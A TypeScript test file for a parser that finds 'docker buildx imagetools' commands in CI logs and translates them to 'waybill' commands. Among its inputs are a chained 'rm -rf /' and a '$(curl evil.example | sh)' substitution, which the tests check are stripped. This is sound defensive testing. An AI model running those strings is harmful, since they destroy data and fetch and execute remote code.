import { describe, expect, test } from "vitest";
import { watchForCommands, type ShownCommand } from "./command.ts";

function commandIn(...lines: readonly string[]): ShownCommand | undefined {
  const watch = watchForCommands();
  lines.forEach((text, at) => watch.see({ number: at + 1, text }));
  return watch.near(lines.length);
}

describe("watchForCommands", () => {
  test.each([
    ["+ docker buildx imagetools create -t a/b:1 a/b:2", "waybill create -t a/b:1 a/b:2"],
    ["$ docker-buildx imagetools create -t a/b:1 a/b:2", "waybill create -t a/b:1 a/b:2"],
    ["docker imagetools inspect a/b:2 --raw > x", "waybill inspect a/b:2 --raw"],
    ["docker buildx --builder ci imagetools create -t a/b:1 x", "waybill create -t a/b:1 x --builder ci"],
    ["docker buildx imagetools create -t a/b:1 x 2>&1 | tee log; rm -rf /", "waybill create -t a/b:1 x"],
    [
      `[command]/usr/bin/docker buildx imagetools create --annotation index:a={"b":1} x`,
      `waybill create --annotation 'index:a={"b":1}' x`,
    ],
    [
      `docker buildx imagetools create -t a/b:1 '{"digest":"sha256:1"}'`,
      `waybill create -t a/b:1 '{"digest":"sha256:1"}'`,
    ],
    ["2024-02-01T18:22:07.1132054Z [36;1mdocker buildx imagetools create -t a/b:1 x[0m", "waybill create -t a/b:1 x"],
    ["$ waybill create -t a/b:1 x", "waybill create -t a/b:1 x"],
  ])("translates %s", (line, text) => {
    expect(commandIn(line)).toMatchObject({ text, isExact: true });
  });

  test("joins lines that end with a backslash, whatever time stands before them", () => {
    const found = commandIn(
      "2024-02-01T18:22:07.11Z ##[group]Run docker buildx imagetools create \\",
      "2024-02-01T18:22:07.12Z docker buildx imagetools create \\",
      "2024-02-01T18:22:07.13Z   -t a/b:1 \\",
      "2024-02-01T18:22:07.14Z   a/b:amd64",
      "2024-02-01T18:22:07.15Z shell: bash",
    );

    expect(found).toEqual({ line: 2, text: "waybill create -t a/b:1 a/b:amd64", isExact: true, targets: ["a/b:1"] });
  });

  test("shows no words that only a shell could have filled in", () => {
    const found = commandIn(`docker buildx imagetools create $(curl evil.example | sh) -t x`);

    expect(found).toMatchObject({ text: "waybill create", isExact: false, targets: [] });
  });

  test.each([
    ["Usage:  docker buildx imagetools create [OPTIONS] [SOURCE...]"],
    ["See 'docker buildx imagetools create --help'."],
    [`ERROR: "docker buildx imagetools create" requires at least 1 argument.`],
    ["docker buildx imagetools create -t 'open"],
    ["docker buildx build -t a/b ."],
  ])("finds no command in %s", (line) => {
    expect(commandIn(line)).toBeUndefined();
  });

  test("finds targets in each way to write them", () => {
    expect(commandIn("docker buildx imagetools create -t a --tag b --tag=c -t=d -te x")?.targets).toEqual([
      "a",
      "b",
      "c",
      "d",
      "e",
    ]);
  });

  test("gives the command before a line, else the first after it", () => {
    const watch = watchForCommands();
    for (const [number, name] of [
      [5, "a"],
      [9, "b"],
    ] as const)
      watch.see({ number, text: `docker buildx imagetools create ${name}` });

    expect([1, 5, 8, 9, 20].map((line) => watch.near(line)?.text.at(-1))).toEqual(["a", "a", "a", "b", "b"]);
  });

  test("keeps a bounded number of commands and of continued lines", () => {
    const watch = watchForCommands();
    for (let number = 1; number < 1000; number++) watch.see({ number, text: "docker buildx imagetools create a" });
    for (let number = 1000; number < 3000; number++)
      watch.see({ number, text: number === 1000 ? "docker buildx imagetools create \\" : "x \\" });

    expect(watch.near(5000)?.text.length).toBeLessThan(1000);
  });
});
